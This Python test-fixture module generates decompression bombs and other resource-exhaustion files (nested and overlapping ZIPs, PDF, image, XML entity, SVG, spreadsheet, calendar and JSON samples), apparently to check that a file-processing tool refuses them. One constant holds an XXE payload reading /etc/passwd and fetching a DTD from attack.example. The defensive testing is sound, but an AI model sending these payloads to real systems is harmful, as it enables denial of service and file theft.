"""Little that becomes much: deflate, nested and overlapping ZIPs, object streams, entities, pictures, repeated cells."""
import base64, bz2, gzip, lzma, struct, zlib
from common import *

ZEROS = 24 << 20

def deflated(data):
    made = zlib.compressobj(9, zlib.DEFLATED, -15)
    return made.compress(data) + made.flush()

class RawZip:
    def __init__(self):
        self.out, self.directory, self.count = bytearray(), bytearray(), 0
    def local(self, name, packed, method, crc, size):
        at = len(self.out)
        self.out += struct.pack('<IHHHIIIIHH', 0x04034b50, 20, 0, method, 0, crc, len(packed), size, len(name), 0) + name + packed
        return at
    def central(self, name, at, method, crc, size, packed):
        self.directory += struct.pack('<IHHHHIIIIHHHHHII', 0x02014b50, 20, 20, 0, method, 0, crc, packed, size, len(name), 0, 0, 0, 0, 0, at) + name
        self.count += 1
    def end(self):
        return bytes(self.out + self.directory) + struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, self.count, self.count, len(self.directory), len(self.out), 0)

def nested_as_42():
    data = zipped([('0.txt', bytes(ZEROS))])
    for level in range(4):
        data = zipped([(f'{level}-{i:02}.zip', data) for i in range(16)])
    return data

def flat_overlap():
    packed, crc = deflated(bytes(1 << 20)), zlib.crc32(bytes(1 << 20))
    z = RawZip(); at = z.local(b'0', packed, 8, crc, 1 << 20)
    for i in range(500):
        z.central(b'%d' % i, at, 8, crc, 1 << 20, len(packed))
    return z.end()

def quoted_overlap():
    """D. Fifield's construction: each entry's data begins with stored blocks that quote the headers behind it."""
    body, plain = deflated(bytes(1 << 20)), bytes(1 << 20)
    pieces = []
    for name in reversed([b'%03d' % i for i in range(60)]):
        header = struct.pack('<IHHHIIIIHH', 0x04034b50, 20, 0, 8, 0, zlib.crc32(plain), len(body), len(plain), len(name), 0) + name
        pieces.append((name, header, zlib.crc32(plain), len(body), len(plain)))
        body, plain = b'\0' + struct.pack('<HH', len(header), len(header) ^ 0xFFFF) + header + body, header + plain
    z = RawZip(); z.out += body[5:]; at = 0
    for name, header, crc, packed, length in reversed(pieces):
        z.central(name, at, 8, crc, length, packed); at += len(header) + 5
    return z.end()

def pdf_bombs():
    zeros = zlib.compress(b' ' * ZEROS, 9)
    twice = zlib.compress(zlib.compress(b' ' * (200 << 20), 9), 9)
    hexed = zlib.compress(b'20' * ZEROS, 9)
    yield 'content.pdf', pdf_of([b'<</Type/Catalog/Pages 2 0 R>>', b'<</Type/Pages/Kids[3 0 R]/Count 1>>', b'<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>', stream(zeros, '/Filter/FlateDecode')])
    yield 'filters.pdf', pdf_of([b'<</Type/Catalog/Pages 2 0 R>>', b'<</Type/Pages/Kids[3 0 R]/Count 1>>', b'<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>', stream(twice, '/Filter[/FlateDecode/FlateDecode]')])
    yield 'filters-ascii.pdf', pdf_of([b'<</Type/Catalog/Pages 2 0 R>>', b'<</Type/Pages/Kids[3 0 R]/Count 1>>', b'<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>', stream(hexed, '/Filter[/FlateDecode/ASCIIHexDecode]')])
    yield 'run-length.pdf', pdf_of([b'<</Type/Catalog/Pages 2 0 R>>', b'<</Type/Pages/Kids[3 0 R]/Count 1>>', b'<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>', stream(zlib.compress(b'\x81 ' * (8 << 20), 9), '/Filter[/FlateDecode/RunLengthDecode]')])
    forms = b''.join(b'/F1 Do ' for _ in range(10))
    level = [f'<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F1 {n + 1} 0 R>>>>/Length {len(forms)}>>\nstream\n'.encode() + forms + b'\nendstream' for n in range(6, 18)]
    yield 'forms.pdf', pdf([*level, stream(b'0 0 1 1 re f', '/Type/XObject/Subtype/Form/BBox[0 0 9 9]')], content=b'/F1 Do', page='/Resources<</XObject<</F1 6 0 R>>>>')
    kids = '[' + ' '.join('{n} 0 R' for _ in range(10)) + ']'
    tree = [b'<</Type/Catalog/Pages 2 0 R>>'] + [f'<</Type/Pages/Count 1000000000/Kids{kids.format(n=n + 1)}>>'.encode() for n in range(2, 12)] + [b'<</Type/Page/MediaBox[0 0 9 9]>>']
    yield 'pages.pdf', pdf_of(tree)
    body = b' '.join(b'%d %d' % (n, n) for n in range(10, 20)) + b' ' + b' ' * (64 << 20)
    yield 'object-stream.pdf', object_stream(zlib.compress(body, 9), 10)
    yield 'object-stream-count.pdf', object_stream(zlib.compress(b'10 0 <<>>'), 2147483647)
    yield 'predictor.pdf', pdf_of([b'<</Type/Catalog/Pages 2 0 R>>', b'<</Type/Pages/Kids[3 0 R]/Count 1>>', b'<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>', stream(zlib.compress(b'\2' + b' ' * 100), '/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647/Colors 32>>')])
    for name, entries, data in (('image', '/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode', zlib.compress(bytes(ZEROS), 9)), ('image-jbig2', '/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/JBIG2Decode', jbig2_page(0xFFFFFFF0, 0xFFFFFFF0)),
                                ('image-ccitt', '/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 2147483647/Rows 2147483647>>', b'\x80' * 400)):
        yield name + '.pdf', pdf([stream(data, f'/Type/XObject/Subtype/Image/Width 60000/Height 60000{entries}')], content=b'/I Do', page='/Resources<</XObject<</I 6 0 R>>>>')

def jbig2_page(width, height):
    """T.88 7.2: a page, then a generic region as large as it says."""
    page = struct.pack('>IBBI', 0, 48, 1, 19) + struct.pack('>IIIIBH', width, height, 0, 0, 0, 0)
    region = struct.pack('>IIIIB', width, height, 0, 0, 0) + b'\0' + b'\3\xff\xfd\xff\2\xfe\xfe\xfe' + b'\xff\xac'
    return page + struct.pack('>IBBI', 1, 38, 1, len(region)) + region

def object_stream(packed, count):
    out = b'%PDF-1.5\n'; places = []
    for number, body in ((1, b'<</Type/Catalog/Pages 2 0 R>>'), (2, b'<</Type/Pages/Kids[3 0 R]/Count 1>>'), (3, b'<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>'), (4, stream(packed, f'/Type/ObjStm/N {count}/First 60/Filter/FlateDecode'))):
        places.append(len(out)); out += b'%d 0 obj\n' % number + body + b'\nendobj\n'
    at = len(out)
    rows = b''.join(struct.pack('>BIB', 1, p, 0) for p in [0, *places, at]) + b''.join(struct.pack('>BIB', 2, 4, i) for i in range(10))
    return out + b'5 0 obj\n' + stream(rows, f'/Type/XRef/W[1 4 1]/Size 16/Root 1 0 R') + b'\nendobj\n' + b'startxref\n%d\n%%%%EOF\n' % at

LAUGHS = '<!DOCTYPE a [<!ENTITY z "zzzzzzzzzz">' + ''.join(f'<!ENTITY e{i} "{(("&e%d;" % (i - 1)) if i else "&z;") * 10}">' for i in range(10)) + ']>'
QUADRATIC = '<!DOCTYPE a [<!ENTITY z "' + 'z' * 50000 + '">]>'
EXTERNAL = '<!DOCTYPE a [<!ENTITY z SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://attack.example/p.dtd">%p;]>'

def entity_bombs():
    for name, head, use in (('laughs', LAUGHS, '&e9;'), ('quadratic', QUADRATIC, '&z;' * 20000), ('external', EXTERNAL, '&z;')):
        yield refused(f'{name}.docx', package('docx', {'word/document.xml': f'{head}<w:document {W}><w:body><w:p><w:r><w:t>{use}</w:t></w:r></w:p></w:body></w:document>'}), 'ooxml_dtd')
        yield refused(f'{name}.xlsx', package('xlsx', {'xl/workbook.xml': f'{head}<workbook {S}><sheets/>{use}</workbook>'}), 'ooxml_dtd')
        yield refused(f'{name}-relations.docx', package('docx', {'word/document.xml': f'<w:document {W}><w:body/></w:document>', 'word/_rels/document.xml.rels': f'{head}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{use}</Relationships>'}), 'ooxml_dtd')
        yield refused(f'{name}.xml', f'<?xml version="1.0"?>{head}<a>{use}</a>'.encode(), 'markup_entity')
        yield refused(f'{name}.svg', f'<?xml version="1.0"?>{head}<svg xmlns="http://www.w3.org/2000/svg"><text>{use}</text></svg>'.encode(), 'markup_entity')
        yield refused(f'{name}.odt', odf_with(head, use), 'markup_entity')
        yield refused(f'{name}.fodt', f'<?xml version="1.0"?>{head}<office:document {ODF_NS} office:mimetype="application/vnd.oasis.opendocument.text"><office:body><office:text><text:p>{use}</text:p></office:text></office:body></office:document>'.encode(), 'markup_entity')

def odf_with(head, use):
    import io, zipfile
    made = odf('odt', f'<text:p>{use}</text:p>')
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(made)) as z, zipfile.ZipFile(out, 'w') as to:
        for info in z.infolist():
            data = z.read(info)
            to.writestr(info, data.replace(b'<office:document-content', head.encode() + b'<office:document-content', 1) if info.filename == 'content.xml' else data)
    return out.getvalue()

def pictures():
    huge = 0x7FFFFFFF
    yield 'dimensions.png', png(width=huge, height=huge, pixels=b'\0' * 100)
    yield 'pixels.png', png(width=30000, height=30000, pixels=bytes(1 << 20))
    yield 'frames.gif', b'GIF89a' + struct.pack('<HHBBB', 65535, 65535, 0, 0, 0) + (b',' + struct.pack('<HHHHB', 0, 0, 65535, 65535, 0) + b'\x02\x02\x44\x01\0') * 3000 + b';'
    yield 'size.bmp', b'BM' + struct.pack('<IHHI', 100, 0, 0, 54) + struct.pack('<IiiHHIIiiII', 40, huge, huge, 1, 24, 0, 0, 0, 0, 0, 0) + bytes(50)
    tags = [(256, 4, 1, 200000), (257, 4, 1, 200000), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 8), (278, 4, 1, 200000), (279, 4, 1, 4)]
    yield 'size.tif', b'II*\0' + struct.pack('<I', 8) + struct.pack('<H', len(tags)) + b''.join(struct.pack('<HHII', *t) for t in tags) + bytes(4)
    jpeg = picture('JPEG'); at = jpeg.find(b'\xff\xc0')
    yield 'size.jpg', jpeg[:at + 5] + struct.pack('>HH', 65500, 65500) + jpeg[at + 9:]
    yield 'size.webp', b'RIFF' + struct.pack('<I', 22) + b'WEBPVP8X' + struct.pack('<I', 10) + b'\0\0\0\0\xfe\xff\xff\xfe\xff\xff'
    yield 'size.psd', b'8BPS' + struct.pack('>H6xHIIHH', 1, 3, 30000, 30000, 8, 3) + bytes(12) + b'\0\1' + bytes(200)
    yield 'size.jp2', b'\xff\x4f\xff\x51' + struct.pack('>HHIIIIIIIIH', 41, 0, huge, huge, 0, 0, huge, huge, 0, 0, 1) + b'\7\1\1' + b'\xff\xd9'

TOO_MUCH = ('bomb', 'output_too_large', 'too_many_pixels', 'too_large', 'too_many_frames', 'too_many_entries', 'too_deep', 'damaged')

def samples():
    yield either('one-entry.zip', zipped([('zeros.txt', bytes(ZEROS)), ('案内.txt', '案内\r\n'.encode())]), 'bomb', notes=['entry_refused'])
    yield either('nested-42.zip', nested_as_42(), 'bomb', 'output_too_large', 'too_many_entries', 'too_deep')
    yield refused('flat-overlap.zip', flat_overlap(), 'zip_ambiguous')
    yield refused('quoted-overlap.zip', quoted_overlap(), 'zip_ambiguous')
    yield refused('zeros.txt.bz2', bz2.compress(bytes(ZEROS)), 'bomb')
    yield refused('zeros.txt.xz', lzma.compress(bytes(ZEROS)), 'bomb')
    yield refused('zeros.txt.gz', gzip.compress(bytes(ZEROS)), 'bomb')
    yield either('members.txt.gz', b''.join(gzip.compress(bytes(4 << 20)) for _ in range(28)), 'bomb', 'output_too_large')
    yield refused('picture.emz', gzip.compress(bytes(ZEROS)), 'bomb', 'unknown_type')
    for name, data in pdf_bombs():
        yield either('pdf-' + name, data, *TOO_MUCH)
    for name, data in pictures():
        yield refused('picture-' + name, data, 'too_many_pixels', 'too_many_frames', 'damaged', 'bomb', 'feature_unsupported')
    yield either('text-chunk.png', png(png_chunk(b'zTXt', b'Comment\0\0' + zlib.compress(bytes(ZEROS)))), 'bomb', notes=['picture_metadata'])
    yield either('profile.png', png(png_chunk(b'iCCP', b'x\0\0' + zlib.compress(bytes(ZEROS)))), 'bomb')
    yield refused('part.docx', docx('<w:p><w:r><w:t>' + ' ' * ZEROS + '</w:t></w:r></w:p>'), 'bomb', 'output_too_large')
    yield from entity_bombs()
    yield either('rows.ods', odf('ods', '<table:table table:name="a"><table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>a</text:p></table:table-cell></table:table-row></table:table>'), *TOO_MUCH, 'markup_bad')
    yield either('spaces.odt', odf('odt', '<text:p><text:s text:c="4294967295"/></text:p>'), *TOO_MUCH, 'markup_bad')
    yield either('columns.xlsx', xlsx('<row r="1"><c r="A1"><v>1</v></c></row>', before='<cols><col min="1" max="4294967295" width="9"/></cols>'), *TOO_MUCH, 'ooxml_bad_xml')
    uses = ''.join(f'<g id="g{i}">' + f'<use href="#g{i - 1}"/>' * 10 + '</g>' for i in range(1, 12))
    yield either('use.svg', f'<svg xmlns="http://www.w3.org/2000/svg"><defs><g id="g0"><rect width="1" height="1"/></g>{uses}</defs><use href="#g11"/></svg>'.encode(), *TOO_MUCH, 'markup_bad')
    yield either('pattern.svg', b'<svg xmlns="http://www.w3.org/2000/svg"><pattern id="a" width="1e-30" height="1e-30"><rect fill="url(#a)"/></pattern><rect fill="url(#a)" width="1e30" height="1e30"/></svg>', *TOO_MUCH, 'markup_bad')
    yield either('picture.svg', b'<svg xmlns="http://www.w3.org/2000/svg"><image href="data:image/png;base64,' + base64.b64encode(png(width=30000, height=30000, pixels=bytes(1000))) + b'"/></svg>', *TOO_MUCH)
    yield either('attachment.eml', mail('Content-Transfer-Encoding: base64', kind='application/zip; name=a.zip', body=base64.encodebytes(zipped([('z.txt', bytes(ZEROS))]))), *TOO_MUCH)
    yield either('events.ics', lines('BEGIN:VCALENDAR', 'VERSION:2.0', 'PRODID:a', 'BEGIN:VEVENT', 'UID:1', 'DTSTAMP:20260101T000000Z', 'DTSTART:20260101T000000Z', 'RRULE:FREQ=SECONDLY;COUNT=999999999;BYSECOND=' + ','.join(str(i % 60) for i in range(9000)), 'END:VEVENT', 'END:VCALENDAR'), *TOO_MUCH, 'markup_bad')
    yield either('numbers.json', b'[' + b'1' * 400000 + b',1e999999999,' + b'"' + b'\\u0061' * 200000 + b'"]', *TOO_MUCH, 'json_bad')
    yield either('backtrack.html', b'<a ' + b'a="' * 100000 + b'<' * 200000, *TOO_MUCH)
    yield either('selectors.html', b'<style>' + b'a{' * 100000 + b'</style><p>' + b'<b>' * 100000, *TOO_MUCH)
    yield either('objects.rtf', b'{\\rtf1 ' + b'{\\pict\\wmetafile8\\picw32000\\pich32000 00}' * 20000 + b'}', *TOO_MUCH)
